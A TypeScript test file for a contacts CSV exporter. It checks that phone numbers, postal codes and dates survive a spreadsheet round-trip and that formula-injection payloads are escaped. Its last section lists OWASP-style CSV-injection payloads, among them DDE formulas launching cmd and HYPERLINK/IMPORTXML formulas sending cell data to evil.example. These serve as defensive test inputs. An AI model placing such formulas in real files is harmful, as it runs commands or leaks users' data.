import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { CsvContact, CsvWidth } from './csvColumn'
import { csvLine } from './csvLine'
import { type CsvShape, createCsvWriter } from './csvWriter'
import { guardCell, guardForProgram, isRenumbered, unguardCell } from './spreadsheetGuard'
import { fileContact } from '../testing/arbitraryContact'
import { readContacts } from '../testing/readCsvText'

/**
 * Texts, and what LibreOffice Calc 7.4 saves after it has opened them in a CSV file (measured with
 * `soffice --headless --convert-to csv` in the locales en-US, de-DE and fr-FR, with "Detect special
 * numbers"; whichever locale changed the text). The last ones are those that Excel changes by its
 * help page "Stop automatically changing numbers to dates".
 */
const renumbered: [text: string, saved: string][] = [
  ['0171234567', '171234567'],
  ['0049305550161', '49305550161'],
  ['01067', '1067'],
  ['000042', '42'],
  ['90071992547409931', '9.00719925474099E+016'],
  ['3E5', '300000'],
  ['1e10', '10000000000'],
  ['1/2', '01/02/2026'],
  ['1-2-2003', '02/01/2003'],
  ['May 5', '05/05/2026'],
  ['5. Mai', '05/05/2026'],
  ['5 mars 2020', '03/05/2020'],
  ['Jan-05', '01/05/2026'],
  ['31-Dec-78', '12/31/1978'],
  ['Monday, January 5, 2026', '01/05/2026'],
  ['false', 'FALSE'],
  ['WAHR', 'TRUE'],
  ['10:30 PM', '10:30:00 PM'],
  ['1.50', '1.5'],
  ['1,50', '1.5'],
  ['1,234', '1234'],
  ['1 234', '1234'],
  ['$5', '5'],
  ['5 €', '5'],
  ['(5)', '-5'],
  ['1 1/2', '1.5'],
  ['.5', '0.5'],
  ['5.', '5'],
  ['4.5.6', '05/04/2006'],
  ['10-12', '12-Oct'],
  ['MAR1', '1-Mar'],
  ['123456789012', '1.23457E+11'],
  ['1985-03-07', '3/7/1985'],
]
/** Texts that both leave as they are. */
const lasting = [
  '42',
  '0',
  '10115',
  '12345678901',
  'Weg 1',
  '12 a',
  'Ada',
  'Mai',
  'ada@b.example',
  '',
]

describe('a cell that a spreadsheet would write in another way', () => {
  it.each(renumbered)('%s, which becomes %s, is text and comes back', (text, saved) => {
    expect(saved).not.toBe(text)
    expect(guardCell(text)).toBe(`'${text}`)
    expect(isRenumbered(guardCell(text))).toBe(false)
    expect([unguardCell(guardCell(text)), unguardCell(guardCell(`'${text}`))]).toEqual([
      text,
      `'${text}`,
    ])
  })

  it('is no other one', () => {
    expect(lasting.map(guardCell)).toEqual(lasting)
  })

  it('is restored for every text and each guard', () => {
    const part = fc.constantFrom(
      "'",
      '=',
      '+',
      '-',
      '0',
      '12',
      '/',
      '.',
      ' ',
      'May',
      'TRUE',
      'x',
      '１',
    )
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string(),
          fc.array(part, { maxLength: 8 }).map((all) => all.join('')),
        ),
        (text) => {
          expect([guardCell, guardForProgram].map((guard) => unguardCell(guard(text)))).toEqual([
            text,
            text,
          ])
        },
      ),
      { numRuns: 3000 },
    )
  })
})

const width: CsvWidth = {
  emails: 1,
  phones: 2,
  websites: 0,
  addresses: 1,
  timeline: 0,
  extras: ['No', 'Other'],
}

/** Does to a file what Calc does: it writes the texts of the table in its own way. */
function opened(file: string): string {
  const saved = new Map(renumbered)
  return file
    .split('\r\n')
    .map((line) =>
      line
        .split(',')
        .map((cell) => saved.get(cell) ?? cell)
        .join(),
    )
    .join('\r\n')
}

describe('a file of contacts', () => {
  const address = {
    label: '',
    formatted: '',
    extendedAddress: '',
    poBox: '',
    region: '',
    country: '',
  }
  const contact: CsvContact = fileContact({
    firstName: 'Null',
    notes: '007',
    birthday: '1985-03-07',
    phones: [
      { label: 'Mobile', value: '0171234567' },
      { label: 'Work', value: '0049305550161' },
    ],
    addresses: [{ ...address, street: '1/2', city: 'Dresden', postalCode: '01067' }],
    extras: { No: '000042', Other: 'May 5' },
  })

  it('comes back unchanged from a spreadsheet that has opened and saved it', () => {
    const { header, row } = createCsvWriter('tessera', width)
    const file = header + row(contact)
    expect(readContacts(opened(file))).toEqual(readContacts(file))
    expect(readContacts(file)).toMatchObject([
      {
        input: { notes: '007', phones: contact.phones, addresses: [{ postalCode: '01067' }] },
        extras: contact.extras,
      },
    ])
  })

  it.each(['google', 'outlook'] as const)(
    'has numbers and dates as they are in the shape %s',
    (shape) => {
      const { header, row } = createCsvWriter(shape, width)
      const values = ['+46 8 555 0101', '+1 (212) 555-0106', '--03-07', '-5', '0171234567']
      const [first = '', second = '', birthday = '', ...extras] = values
      const line = row({
        ...contact,
        birthday,
        phones: [
          { label: 'Mobile', value: first },
          { label: 'Work', value: second },
        ],
        extras: { No: extras[0] ?? '', Other: extras[1] ?? '' },
      })
      for (const value of values) expect(line.split(/[,\r]/)).toContain(value)
      expect(header).not.toContain("'+")
    },
  )
})

/** Texts that a spreadsheet runs (OWASP "CSV Injection", and payloads of public reports). */
const payloads = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1;"Click")',
  '=IMPORTXML(CONCAT("http://evil.example?v=",A2),"//a")',
  "+1+cmd|' /C calc'!A0",
  '+1+1',
  "-1+1+cmd|' /C calc'!A0",
  '-1+1',
  '--1',
  "--01-31+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|calc!A0',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\uff1d1+1',
  '\uff0b49 30 5550101',
  '\uff20SUM(A1)',
  "+49 30 5550101+cmd|' /C calc'!A0",
  '+49 30 5550101\n=1+1',
  '=DDE("cmd";"/C calc";"x")',
]

describe('a formula', () => {
  it.each(payloads)('%j is text in every file', (payload) => {
    const cells = [guardCell(payload), guardForProgram(payload), csvLine([payload])]
    for (const cell of cells) expect(cell).toMatch(/^"?'/)
    const hostile = fileContact({
      firstName: payload,
      phones: [{ label: payload, value: payload }],
      extras: { No: payload },
    })
    for (const shape of ['tessera', 'google', 'outlook'] satisfies CsvShape[]) {
      const line = createCsvWriter(shape, width).row(hostile)
      expect(line).toContain(`'${payload.slice(0, 3).split('"')[0] ?? ''}`)
      expect(line).not.toMatch(/(?:^|,)"?\s*[=+\-@\uff1d\uff0b\uff0d\uff20]/)
    }
  })
})
